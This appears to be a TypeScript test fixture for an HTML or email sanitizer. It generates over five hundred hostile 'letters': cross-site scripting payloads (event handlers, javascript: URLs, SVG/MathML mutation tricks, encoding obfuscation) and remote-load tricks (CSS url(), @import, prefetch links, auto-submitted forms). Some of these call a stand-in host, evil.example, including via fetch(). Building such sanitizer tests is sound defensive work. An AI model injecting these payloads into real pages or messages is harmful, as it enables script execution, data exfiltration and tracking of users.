/** Words that a letter may use to run something: every one of them sets a mark on the page that nobody else sets. */
const RUNS = ['alert(1)', 'top.HIT=1', 'parent.postMessage("hit","*")', 'fetch("//evil.example/x")']
const OUTSIDE = 'https://evil.example/pixel.gif'
const OUTSIDE_FORMS = [OUTSIDE, '//evil.example/pixel.gif', 'http://evil.example/p?u=1', 'HTTPS://EVIL.example/P', 'https:\\\\evil.example\\p', 'ftp://evil.example/p', 'ws://evil.example/p']

/** `RUN` stands for a script. */
const SCRIPTS = [
  '<script>RUN</script>', '<SCRIPT/x>RUN</SCRIPT>', '<script src="data:text/javascript,RUN"></script>', '<img src=x onerror="RUN">', '<img src=x OnErRoR=RUN>', '<img/src/onerror=RUN>', '<svg onload="RUN">', '<svg><script>RUN</script></svg>', '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>', '<math><mtext><table><mglyph><style><img src=x onerror="RUN"></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:RUN">x</a></math>', '<body onload="RUN">', '<body onpageshow=RUN>', '<iframe srcdoc="<script>RUN</script>"></iframe>', '<iframe src="javascript:RUN"></iframe>', '<object data="data:text/html,<script>RUN</script>"></object>', '<embed src="javascript:RUN">', '<a href="javascript:RUN">x</a>',
  '<a href=" java\tscript:RUN">x</a>', '<a href="&#106;avascript:RUN">x</a>', '<a href="vbscript:RUN">x</a>', '<a href="data:text/html,<script>RUN</script>">x</a>', '<form action="javascript:RUN"><button>x</button></form>', '<button formaction="javascript:RUN">x</button>', '<input onfocus="RUN" autofocus>', '<details open ontoggle="RUN"><summary>x</summary></details>',
  '<video onerror="RUN"><source onerror="RUN"></video>', '<audio src=x onerror="RUN">', '<marquee onstart="RUN">x</marquee>', '<div style="animation-name:x" onanimationstart="RUN">x</div>', '<template><img src=x onerror="RUN"></template>', '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>', '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>', '<style><!--</style><img src=x onerror="RUN">', '<title><img src=x onerror="RUN"></title>', '<!--><img src=x onerror="RUN">-->', '<img src="x` `<script>RUN</script>"` `>', '<p style="width:expression(RUN)">x</p>', '<p style="behavior:url(#default#time2)" onbegin="RUN">x</p>',
  '<form id="attributes"><input name="attributes"><img name="childNodes" src=x onerror="RUN"></form>', '<a id=location href="javascript:RUN">x</a><img name=body onerror=RUN src=x>', '<div id="x" tabindex=0 onfocus="RUN">x</div>', '<isindex type=image src=1 onerror="RUN">', '<meta http-equiv="refresh" content="0;url=javascript:RUN">', '<base href="javascript:RUN//"><a href="x">x</a>',
]

/** `OUT` stands for an address of another machine. */
const FETCHES = [
  '<img src="OUT">', '<img srcset="OUT 1x, OUT 2x">', '<picture><source srcset="OUT"><img></picture>', '<table background="OUT"><tr><td background="OUT">x</td></tr></table>', '<body background="OUT">', '<p style="background:url(OUT)">x</p>', '<p style="background-image:url(\'OUT\')">x</p>', '<p style="background:u\\72l(OUT)">x</p>', '<ul style="list-style:url(OUT)"><li>x</li></ul>', '<p style="list-style-image:url(OUT)">x</p>',
  '<p style="cursor:url(OUT),auto">x</p>', '<p style="border-image:url(OUT)">x</p>', '<p style="background:image-set(\'OUT\' 1x)">x</p>', '<p style="background:-webkit-image-set(url(OUT) 1x)">x</p>', '<p style="--a:url(OUT);background:var(--a)">x</p>', '<p style="content:url(OUT)">x</p>', '<p style="color:red;}body{background:url(OUT)}">x</p>', '<p style="font-family:\'x;background:url(OUT)\'">x</p>', '<p style="background:/*x*/url(OUT)">x</p>',
  '<style>@import url(OUT);</style>', '<style>@import "OUT";</style>', '<style>body{background:url(OUT)}</style>', '<style>@font-face{font-family:x;src:url(OUT)}p{font-family:x}</style><p>x</p>', '<style>input[value^=a]{background:url(OUT)}</style>', '<link rel="stylesheet" href="OUT">', '<link rel="prefetch" href="OUT">', '<link rel="dns-prefetch" href="OUT">', '<link rel="preload" as="image" href="OUT">', '<link rel="icon" href="OUT">',
  '<iframe src="OUT"></iframe>', '<frameset><frame src="OUT"></frameset>', '<object data="OUT"></object>', '<embed src="OUT">', '<video poster="OUT" src="OUT" autoplay></video>', '<audio src="OUT" autoplay></audio>', '<video><track src="OUT" default></video>', '<input type="image" src="OUT">', '<svg><image href="OUT"/></svg>', '<svg><image xlink:href="OUT"/></svg>', '<svg><use href="OUT#x"/></svg>', '<svg><feImage href="OUT"/></svg>', '<svg><filter><feImage xlink:href="OUT"/></filter></svg>',
  '<meta http-equiv="refresh" content="0;url=OUT">', '<base href="OUT"><img src="x.gif">', '<form action="OUT"><input name=q></form><script>document.forms[0].submit()</script>', '<a href="OUT" ping="OUT">x</a>', '<script src="OUT"></script>', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'OUT\'/></svg>">', '<img lowsrc="OUT" dynsrc="OUT" src="">', '<bgsound src="OUT">', '<applet code="x" archive="OUT"></applet>', '<portal src="OUT"></portal>', '<p style="mask:url(OUT#m)">x</p>', '<p style="filter:url(OUT#f)">x</p>', '<p style="shape-outside:url(OUT)">x</p>',
]

/** Letters that try to run something or to fetch something, each in several spellings: more than five hundred. */
export const HOSTILE_LETTERS: readonly string[] = [
  ...SCRIPTS.flatMap((letter) => RUNS.map((run) => letter.replaceAll('RUN', run))),
  ...FETCHES.flatMap((letter) => OUTSIDE_FORMS.map((address) => letter.replaceAll('OUT', address))),
]
